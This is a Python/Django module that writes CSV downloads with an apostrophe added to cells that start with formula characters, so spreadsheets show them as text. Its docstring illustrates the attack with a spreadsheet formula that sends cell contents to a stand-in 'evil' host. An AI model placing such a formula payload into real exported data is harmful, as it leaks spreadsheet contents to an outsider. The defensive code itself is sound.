"""CSV downloads that a spreadsheet opens as data, never as formulas.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula by Excel and LibreOffice (CSV/formula injection, OWASP): a team named
``=HYPERLINK("http://evil/?"&A1)`` would otherwise turn the organizer's spreadsheet into a
link that sends its cells away. Such a text cell gets a leading apostrophe, which the
spreadsheet shows as text. Numbers stay numbers: ``-0.5`` (a float, or a string written as a
plain decimal number) is written as is.
"""

import csv
import re

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def spreadsheet_safe(value):
    """``value`` as a CSV cell that no spreadsheet evaluates.

    >>> spreadsheet_safe('=HYPERLINK("x")')
    '\\'=HYPERLINK("x")'
    >>> spreadsheet_safe("-0.5"), spreadsheet_safe(-0.5), spreadsheet_safe("Team A")
    ('-0.5', -0.5, 'Team A')
    >>> spreadsheet_safe("-1+2")
    "'-1+2"
    """
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def csv_response(filename: str, header: list, rows) -> HttpResponse:
    """An attachment ``filename``: ``header`` then ``rows``, every cell spreadsheet-safe."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    writer = csv.writer(response)
    writer.writerow([spreadsheet_safe(cell) for cell in header])
    writer.writerows([spreadsheet_safe(cell) for cell in row] for row in rows)
    return response
